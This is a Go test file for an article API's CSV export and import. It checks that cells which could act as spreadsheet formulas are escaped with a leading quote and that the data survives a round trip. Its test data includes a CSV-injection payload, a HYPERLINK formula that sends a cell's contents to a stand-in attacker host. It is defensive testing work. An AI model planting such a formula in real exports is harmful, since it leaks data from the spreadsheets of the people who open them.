package api

import (
	"bytes"
	"encoding/csv"
	"io"
	"net/http"
	"strings"
	"testing"
)

// get fetches path with a bearer token and returns the status and body.
func (f *fixture) get(t *testing.T, path, token string) (int, []byte) {
	t.Helper()
	req, _ := http.NewRequest("GET", f.srv.URL+path, nil)
	req.Header.Set("Authorization", "Bearer "+token)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	return resp.StatusCode, b
}

// TestArticleCSVExportHasNoFormulas: a title or body a spreadsheet would
// run is exported with OWASP's leading quote, and importing the export back
// gives the articles as they were (the quote is taken off again).
func TestArticleCSVExportHasNoFormulas(t *testing.T) {
	f := newFixture(t)
	root := f.login(t, "root@example.com")
	title := `=HYPERLINK("http://evil.example/?x="&A1,"Open")`
	body := "- first step\n- second step"
	st, out := f.call(t, "POST", "/api/v1/articles", root, map[string]any{"slug": "steps", "language": "en", "title": title,
		"body": body, "questions": []string{"@everyone how?", "'= quoted already"}})
	if st != 201 {
		t.Fatalf("create: %d %v", st, out)
	}
	st, raw := f.get(t, "/api/v1/articles/export?format=csv", root)
	if st != 200 {
		t.Fatalf("export: %d %s", st, raw)
	}
	rows, err := csv.NewReader(bytes.NewReader(raw)).ReadAll()
	if err != nil || len(rows) != 2 {
		t.Fatalf("export: %v %q", err, raw)
	}
	for _, c := range rows[1] {
		if c != "" && strings.ContainsRune("=+-@\t\r", rune(c[0])) {
			t.Errorf("exported cell %q starts a formula", c)
		}
	}
	if rows[1][2] != "'"+title {
		t.Errorf("title cell %q", rows[1][2])
	}
	req, _ := http.NewRequest("POST", f.srv.URL+"/api/v1/articles/import", bytes.NewReader(raw))
	req.Header.Set("Authorization", "Bearer "+root)
	req.Header.Set("Content-Type", "text/csv")
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("re-import: %d", resp.StatusCode)
	}
	_, out = f.call(t, "GET", "/api/v1/articles", root, nil)
	arts := out["articles"].([]any)
	a := arts[0].(map[string]any)
	if len(arts) != 1 || a["title"] != title || a["body"] != body || a["version"] != 1.0 {
		t.Errorf("after the round trip: %v", arts)
	}
	if qs := a["questions"].([]any); len(qs) != 2 || qs[0] != "@everyone how?" || qs[1] != "'= quoted already" {
		t.Errorf("questions after the round trip: %v", qs)
	}
}
